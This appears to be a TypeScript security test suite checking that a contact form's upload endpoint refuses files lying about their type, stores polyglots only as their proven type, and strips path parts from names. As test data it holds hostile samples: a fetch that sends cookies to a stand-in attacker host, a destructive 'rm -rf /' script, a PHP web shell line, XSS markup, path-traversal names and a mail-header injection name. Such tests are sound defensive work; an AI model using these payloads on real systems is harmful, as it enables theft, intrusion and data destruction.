import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UPLOAD_MAX_BYTES } from '../../../src/contract/contract.ts';
import { startTestServer, type TestServer } from '../../api/harness.ts';
import { JPEG, PDF, PNG_SIGNATURE, png } from '../../fixtures/upload-files.ts';
import { tally } from '../report.ts';

/**
 * Security suite, uploads (docs/reliability.md): the contact form's file (`POST /api/contact-us`,
 * .jpg/.jpeg/.png/.pdf up to UPLOAD_MAX_BYTES) against files that lie about what they are. A file
 * "got through" when the server stored it although its name or bytes break the rules; a path in a
 * file name got through when any directory part was kept; a polyglot got through when it was stored
 * under any content type other than the one its first bytes prove (never `text/html`, never the
 * client's claim).
 */

let server: TestServer;

beforeAll(async () => {
  server = await startTestServer();
});

afterAll(async () => {
  await server?.close();
});

const HTML = Buffer.from('<!doctype html><html><body><script>parent.__xss=1</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss=1"><script>parent.__xss=1</script></svg>');
const SCRIPT = Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n');
const JS = Buffer.from('fetch("https://evil.example/?c="+document.cookie)');
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(64)]);
const ZIP = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00]);
const GIF = Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1');

interface Upload {
  name: string;
  bytes: Uint8Array;
  /** What the client claims in the part's Content-Type. */
  type?: string;
}

/** Files whose name or bytes break the rules: each must be refused. */
const REFUSED: [string, Upload][] = [
  ['wrong extension: .exe', { name: 'setup.exe', bytes: EXE }],
  ['wrong extension: .html', { name: 'page.html', bytes: HTML, type: 'text/html' }],
  ['wrong extension: .svg', { name: 'logo.svg', bytes: SVG, type: 'image/svg+xml' }],
  ['wrong extension: .js', { name: 'app.js', bytes: JS }],
  ['wrong extension: .php with PNG bytes', { name: 'shell.php', bytes: png() }],
  ['wrong extension: .gif', { name: 'anim.gif', bytes: GIF, type: 'image/gif' }],
  ['wrong extension: .zip', { name: 'docs.zip', bytes: ZIP }],
  ['no extension, PNG bytes', { name: 'photo', bytes: png() }],
  ['trailing dot after .png', { name: 'photo.png.', bytes: png() }],
  ['trailing space after .png', { name: 'photo.png ', bytes: png() }],
  ['HTML named .png', { name: 'photo.png', bytes: HTML, type: 'image/png' }],
  ['SVG named .png', { name: 'logo.png', bytes: SVG, type: 'image/png' }],
  ['HTML named .pdf', { name: 'brief.pdf', bytes: HTML, type: 'application/pdf' }],
  ['shell script named .pdf', { name: 'brief.pdf', bytes: SCRIPT, type: 'application/pdf' }],
  ['JavaScript named .jpg', { name: 'photo.jpg', bytes: JS, type: 'image/jpeg' }],
  ['executable named .jpeg', { name: 'photo.jpeg', bytes: EXE, type: 'image/jpeg' }],
  ['PNG bytes named .pdf', { name: 'brief.pdf', bytes: png() }],
  ['PDF bytes named .jpg', { name: 'photo.jpg', bytes: PDF }],
  ['JPEG bytes named .png', { name: 'photo.png', bytes: JPEG }],
  ['GIF bytes named .png', { name: 'anim.png', bytes: GIF }],
  ['magic bytes cut short (.png)', { name: 'photo.png', bytes: PNG_SIGNATURE.subarray(0, 4) }],
  ['"%PDF" without the dash', { name: 'brief.pdf', bytes: Buffer.from('%PDF1.4 <script>') }],
  ['empty file named .png', { name: 'empty.png', bytes: new Uint8Array() }],
  ['empty file named .pdf', { name: 'empty.pdf', bytes: new Uint8Array() }],
  ['one byte over the limit, real PNG header', { name: 'huge.png', bytes: Buffer.concat([png(), Buffer.alloc(UPLOAD_MAX_BYTES + 1 - png().length)]) }],
  ['double extension: .png.exe', { name: 'photo.png.exe', bytes: png() }],
  ['double extension: .png.html', { name: 'photo.png.html', bytes: HTML }],
  ['double extension: .php.png with PHP inside', { name: 'shell.php.png', bytes: Buffer.from('<?php system($_GET["c"]); ?>') }],
  ['NUL before the real extension: .png\\0.exe', { name: 'photo.png\0.exe', bytes: EXE }],
  ['upper-case .HTML', { name: 'PAGE.HTML', bytes: HTML }],
];

/** Names with directory parts on a file that is otherwise fine: stored, if at all, without them. */
const PATHS: string[] = [
  '../../etc/passwd.png',
  '..\\..\\windows\\win.ini.png',
  '/etc/cron.d/x.png',
  'C:\\Users\\Public\\x.png',
  'a/../../b.png',
  '....//....//c.png',
  '%2e%2e%2fetc%2fd.png',
  // Control characters in the name: NUL cannot be stored in text at all, CR/LF split mail headers.
  'a\u0000b.png',
  'photo\r\nBcc: victim@example.test.png',
];

/** Files that are what they claim to be at the start, with markup or script after it. */
const POLYGLOTS: [string, Upload, string][] = [
  ['PNG signature then an HTML page', { name: 'photo.png', bytes: Buffer.concat([PNG_SIGNATURE, HTML]), type: 'text/html' }, 'image/png'],
  ['valid PNG with a <script> in a tEXt chunk', { name: 'photo.png', bytes: png('<script>parent.__xss=1</script>'), type: 'text/html' }, 'image/png'],
  ['valid PNG with a ZIP appended', { name: 'photo.png', bytes: Buffer.concat([png(), ZIP]) }, 'image/png'],
  ['JPEG start then an SVG with onload', { name: 'photo.jpg', bytes: Buffer.concat([JPEG.subarray(0, 4), SVG]), type: 'image/svg+xml' }, 'image/jpeg'],
  ['PDF header then an HTML page', { name: 'brief.pdf', bytes: Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]), type: 'text/html' }, 'application/pdf'],
  ['PDF with a JavaScript action', { name: 'brief.pdf', bytes: Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n') }, 'application/pdf'],
];

async function send(upload: Upload): Promise<{ status: number; stored: { file_name: string; file_type: string } | null }> {
  const form = new FormData();
  for (const [key, value] of Object.entries({ website_id: String(server.shops.globex), name: 'Pat', email: 'pat@example.test', message: 'File attached' })) form.append(key, value);
  form.append('file', new Blob([new Uint8Array(upload.bytes)], upload.type ? { type: upload.type } : {}), upload.name);
  const before = await lastMessageId();
  const response = await server.request('/api/contact-us', { method: 'POST', body: form });
  await response.body?.cancel();
  const { rows } = await server.db.query<{ file_name: string; file_type: string }>(
    'SELECT file_name, file_type FROM contact_messages WHERE id > $1 ORDER BY id DESC LIMIT 1',
    [before],
  );
  return { status: response.status, stored: rows[0] ?? null };
}

async function lastMessageId(): Promise<number> {
  const { rows } = await server.db.query<{ id: number | null }>('SELECT max(id) AS id FROM contact_messages');
  return rows[0]?.id ?? 0;
}

describe('security: upload content checks', () => {
  it('should refuse every file whose name or bytes break the rules', async () => {
    const through: string[] = [];
    for (const [name, upload] of REFUSED) {
      const { status, stored } = await send(upload);
      if (stored || status < 400 || status >= 500) through.push(`${name}: ${status}${stored ? ` stored as ${stored.file_name} (${stored.file_type})` : ''}`);
    }
    tally({ suite: 'security', check: 'uploads: wrong extension, wrong magic bytes (HTML/SVG/script renamed), empty, oversized, double extensions', tried: REFUSED.length, gotThrough: through.length });
    expect(through).toEqual([]);
  });

  it('should keep no directory part of a file name', async () => {
    const through: string[] = [];
    for (const name of PATHS) {
      const { status, stored } = await send({ name, bytes: png() });
      if (status >= 500) through.push(`${name}: server error ${status}`);
      // eslint-disable-next-line no-control-regex -- control characters in a stored name are the point
      else if (stored && /[\\/\u0000-\u001f]|^\.\.?$/.test(stored.file_name)) through.push(`${name}: stored as ${JSON.stringify(stored.file_name)}`);
    }
    tally({ suite: 'security', check: 'uploads: path-traversal and control-character file names (stored with a directory part or control character)', tried: PATHS.length, gotThrough: through.length });
    expect(through).toEqual([]);
  });

  it('should store a polyglot only as the kind its first bytes prove, never as what the client claims', async () => {
    const through: string[] = [];
    let accepted = 0;
    for (const [name, upload, proven] of POLYGLOTS) {
      const { status, stored } = await send(upload);
      if (status >= 500) through.push(`${name}: server error ${status}`);
      if (!stored) continue;
      accepted += 1;
      if (stored.file_type !== proven) through.push(`${name}: stored as ${stored.file_type}`);
    }
    tally({
      suite: 'security',
      check: 'uploads: polyglots (valid magic bytes, markup or script after them)',
      tried: POLYGLOTS.length,
      gotThrough: through.length,
      note: `${accepted} accepted, each stored as the type its magic bytes prove (image/png, image/jpeg, application/pdf); contact files are never served back`,
    });
    expect(through).toEqual([]);
  });
});
